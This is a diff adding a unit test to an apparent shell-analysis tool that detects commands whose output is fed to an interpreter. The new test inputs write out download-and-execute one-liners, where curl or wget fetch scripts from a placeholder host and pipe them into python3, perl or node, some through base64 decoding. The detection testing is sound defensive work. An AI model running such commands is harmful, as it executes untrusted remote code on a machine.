@@ -83,6 +83,17 @@ describe('tools piped into a shell (fedToShell)', () => {
       expect(fed(script), script).toEqual([]);
     }
   });
+  it('an interpreter whose whole program a substitution prints, or whose program is a process substitution: those tools are fed', () => {
+    expect(fed('python3 -c "$(curl -s http://h/p.py)"')).toEqual(['curl']);
+    expect(fed('perl -e "`wget -qO- http://h/p.pl`"')).toEqual(['wget']);
+    expect(fed('node -e "$(curl -s http://h/a.js | base64 -d)"')).toEqual(['curl', 'base64']);
+    expect(fed('python3 <(curl -s http://h/p.py)')).toEqual(['curl']);
+    expect(fed('nohup $(curl -s http://h/r | base64 -d) &')).toEqual(['curl', 'base64']);
+    // A substitution inside the code (a string literal here), a script operand given a process substitution, single-quoted code: none.
+    for (const script of [`python3 -c "print('$(curl -s http://h/ip)')"`, 'python3 train.py <(curl -s http://h/list)', "node -e 'console.log(`x`)'"]) {
+      expect(fed(script), script).toEqual([]);
+    }
+  });
   it(`distinct names, at most ${MAX_FED_TOOLS}, whatever the line's length`, () => {
     expect(fed(Array.from({ length: 12 }, (_, i) => `a${i % 3} | b | sh`).join('; '))).toEqual(['a0', 'b', 'a1', 'a2']);
     const wide = Array.from({ length: 60 }, (_, i) => `t${i}`).join(' | ') + ' | sh';
